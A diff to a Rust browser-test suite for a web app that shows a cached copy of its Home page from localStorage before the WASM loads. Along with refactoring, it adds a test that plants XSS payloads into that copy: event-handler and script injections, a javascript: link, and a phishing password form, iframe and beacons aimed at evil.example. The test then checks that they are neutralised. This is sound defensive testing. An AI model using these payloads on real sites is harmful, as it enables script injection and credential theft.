@@ -2,13 +2,12 @@
 //! app last drew it, inert, until the app mounts; a copy drawn from anything
 //! other than what is stored now is not shown, and signing out removes it.
 
-use fantoccini::Client;
 use serde_json::{json, Value};
 
 use crate::support::browser::Browser;
 use crate::support::page::Page;
 use crate::support::server::{Gate, ServerOptions, StaticServer};
-use crate::support::{dist_dir, until};
+use crate::support::{dist_dir, load_with_storage, serve_gated, until};
 
 const EMAIL: &str = "returning@example.com";
 const COPY: &str = "cloudlink.home";
@@ -38,27 +37,6 @@ async fn storage_with_a_copy() -> Vec<(String, String)> {
     );
     page.close().await;
     stored
-}
-
-/// Puts `stored` into a browser at `server`'s origin, then loads Home.
-async fn load_home(c: &Client, server: &StaticServer, stored: &[(String, String)]) {
-    c.goto(&server.url("/config.json")).await.unwrap();
-    until(
-        c,
-        "config.json",
-        "return document.readyState === 'complete';",
-    )
-    .await;
-    c.execute("localStorage.clear();", vec![]).await.unwrap();
-    for (k, v) in stored {
-        c.execute(
-            "localStorage.setItem(arguments[0], arguments[1]);",
-            vec![json!(k), json!(v)],
-        )
-        .await
-        .unwrap();
-    }
-    c.goto(&server.url("/")).await.unwrap();
 }
 
 /// Whether the page shows a copy once its own script has decided: after the
@@ -97,13 +75,7 @@ fn changed(
 async fn a_signed_in_person_sees_home_before_the_wasm_and_the_app_takes_over() {
     let stored = storage_with_a_copy().await;
     let gate = Gate::closed();
-    let server = StaticServer::start(
-        &dist_dir(),
-        ServerOptions {
-            wasm_gate: Some(gate.clone()),
-            ..Default::default()
-        },
-    );
+    let server = serve_gated(&gate);
     let browser = Browser::start_not_waiting_for_load().await;
     let c = &browser.client;
 
@@ -130,7 +102,7 @@ async fn a_signed_in_person_sees_home_before_the_wasm_and_the_app_takes_over() {
         ),
     ];
     for (why, storage) in &stale {
-        load_home(c, &server, storage).await;
+        load_with_storage(c, &server, storage, "/").await;
         let shown = c.execute_async(SHOWS_COPY, vec![]).await.unwrap();
         assert_eq!(
             shown,
@@ -139,7 +111,7 @@ async fn a_signed_in_person_sees_home_before_the_wasm_and_the_app_takes_over() {
         );
     }
 
-    load_home(c, &server, &stored).await;
+    load_with_storage(c, &server, &stored, "/").await;
     let copy = until(
         c,
         "the copy of Home",
@@ -152,6 +124,18 @@ async fn a_signed_in_person_sees_home_before_the_wasm_and_the_app_takes_over() {
         json!([true, "true", "Home", true, true]),
         "the copy of Home"
     );
+    // What is shown is only what Home drew, so nothing of it may be lost on
+    // the way: every element and attribute of the stored markup is there.
+    let kept = c
+        .execute(
+            &format!(
+                "const t = document.createElement('template');                  t.innerHTML = JSON.parse(localStorage.getItem('{COPY}')).html;                  const count = (root) => [...root.querySelectorAll('*')].map(e => e.localName + ':' + e.getAttributeNames().sort().join(','));                  return [count(t.content), count(document.querySelector('#prerender'))];"
+            ),
+            vec![],
+        )
+        .await
+        .unwrap();
+    assert_eq!(kept[1], kept[0], "the copy shown dropped part of Home");
     let app = c
         .execute(
             "return !!document.querySelector('body > .app-header');",
@@ -177,5 +161,60 @@ async fn a_signed_in_person_sees_home_before_the_wasm_and_the_app_takes_over() {
         .await
         .unwrap();
     assert_eq!(ours, json!(1), "the copy stayed beside the app's Home");
+    browser.close().await;
+}
+
+/// Markup any script on the origin could have written into the copy, with
+/// the session, revision and day that make it shown.
+const PLANTED: &str = r##"
+<img id="handler" src="logo.svg" onerror="window.pwned = 'img'" onload="window.pwned = 'img'">
+<script>window.pwned = 'script'</script>
+<a id="scheme" href="javascript:window.pwned = 'link'">Open</a>
+<svg><animate onbegin="window.pwned = 'svg'" attributeName="x" dur="1s"></animate></svg>
+<iframe src="https://evil.example/"></iframe>
+<form id="phish" action="https://evil.example/"><input id="steal" name="password"></form>
+<div id="styled" style="background: url(https://evil.example/x.png)">Styled</div>
+<img id="beacon" src="https://evil.example/b.png">
+<h1 id="planted-heading">Planted</h1>
+"##;
+
+#[tokio::test]
+async fn markup_planted_in_the_copy_runs_nothing_and_reaches_nothing() {
+    let stored = storage_with_a_copy().await;
+    let planted = changed(&stored, |k| k == COPY, |v| v["html"] = json!(PLANTED));
+    let gate = Gate::closed();
+    // No Content-Security-Policy: a host that does not send one.
+    let server = serve_gated(&gate);
+    let browser = Browser::start_not_waiting_for_load().await;
+    let c = &browser.client;
+    load_with_storage(c, &server, &planted, "/").await;
+    until(
+        c,
+        "the planted copy",
+        "return !!document.querySelector('#prerender #planted-heading');",
+    )
+    .await;
+    tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
+    let seen = c
+        .execute(
+            "const r = document.querySelector('#prerender');              const attrs = (sel) => { const e = r.querySelector(sel); return e ? e.getAttributeNames().sort().join(',') : 'gone'; };              return { pwned: window.pwned || null,                handler: attrs('#handler'), scheme: attrs('#scheme'), styled: attrs('#styled'), beacon: attrs('#beacon'),                kinds: [...new Set([...r.querySelectorAll('*')].map(e => e.localName))].sort().join(','),                evil: performance.getEntriesByType('resource').filter(e => e.name.includes('evil.example')).length };",
+            vec![],
+        )
+        .await
+        .unwrap();
+    assert_eq!(
+        seen,
+        json!({
+            "pwned": null,
+            "handler": "id,src",
+            "scheme": "id",
+            "styled": "id",
+            "beacon": "id",
+            "kinds": "a,div,h1,img,svg",
+            "evil": 0,
+        }),
+        "planted markup ran or reached another origin"
+    );
+    gate.open();
     browser.close().await;
 }
